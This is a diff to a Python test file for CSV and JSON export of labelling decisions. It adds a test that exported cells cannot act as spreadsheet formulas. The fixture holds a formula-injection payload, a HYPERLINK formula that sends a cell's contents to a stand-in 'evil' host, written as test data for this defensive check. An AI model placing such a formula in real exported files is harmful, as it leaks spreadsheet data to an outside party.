@@ -1,5 +1,6 @@
 """Decisions to and from Label Studio's JSON and CSV."""
 
+import csv
 import json
 
 import pytest
@@ -32,6 +33,22 @@ def test_what_is_exported_is_imported_as_it_was(name, task, given, tmp_path):
     assert (first.by, first.at, first.was, first.model) == ("ann", "2026-11-29T09:00:00+00:00", "daisy", "run-1")
     assert import_decisions(work, other, tmp_path / name)[0] == 0
     assert len(other.read_text().splitlines()) == 3
+
+
+def test_no_cell_of_a_csv_is_a_formula_to_a_spreadsheet_and_all_are_imported_as_they_were(tmp_path):
+    work, labels = make_work(tmp_path / "pictures"), tmp_path / "labels.jsonl"
+    given = ["=1+1", "@a", "'=b", "'c", "-7"]
+    for sha256, label in zip(HASHES, given, strict=False):
+        append_decision(labels, Decision(sha256, label, '=HYPERLINK("http://evil/?"&A1)', by="+ann", was="-b"))
+    export_decisions(work, labels, tmp_path / "a.csv")
+    with (tmp_path / "a.csv").open(newline="") as file:
+        rows = list(csv.DictReader(file))
+    assert [row["label"] for row in rows] == ["'=1+1", "'@a", "''=b", "'c", "-7"]
+    assert {(row["metadata"][:4], row["by"], row["was"]) for row in rows} == {("'=HY", "'+ann", "'-b")}
+    other = tmp_path / "other.jsonl"
+    import_decisions(work, other, tmp_path / "a.csv")
+    assert list_labels(other) == dict(enumerate(given))
+    assert {decision.by for decision in read_decisions(str(other)).newest.values()} == {"+ann"}
 
 
 def test_numbers_are_exchanged_by_csv(tmp_path):
